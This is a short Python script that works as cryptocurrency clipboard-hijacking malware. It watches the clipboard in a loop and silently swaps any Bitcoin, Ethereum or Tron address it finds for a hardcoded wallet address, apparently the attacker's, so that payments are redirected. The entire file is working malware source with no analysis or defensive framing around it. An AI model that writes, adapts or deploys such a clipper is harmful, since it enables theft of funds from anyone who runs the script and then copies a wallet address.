import re
import time

import pyperclip

PATTERNS = {
    "btc": (re.compile(r"^(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$"),
            "bc1qq8xkx6qf0dl9a6df4cj86xrefu5qkzf64mapg8"),
    "eth": (re.compile(r"^0x[a-fA-F0-9]{40}$"),
            "0x61919043641a1460e7182374ab3c613f1791451c"),
    "trx": (re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$"),
            "TV21GD8Fq9rM4vT6RM1Wf1c4t18cfWmhVd"),
}


def main() -> None:
    last = ""
    while True:
        try:
            text = pyperclip.paste().strip()
        except Exception:
            text = ""
        if text and text != last:
            for rx, replacement in PATTERNS.values():
                if rx.match(text) and text != replacement:
                    pyperclip.copy(replacement)
                    text = replacement
                    break
            last = text
        time.sleep(0.3)


if __name__ == "__main__":
    main()
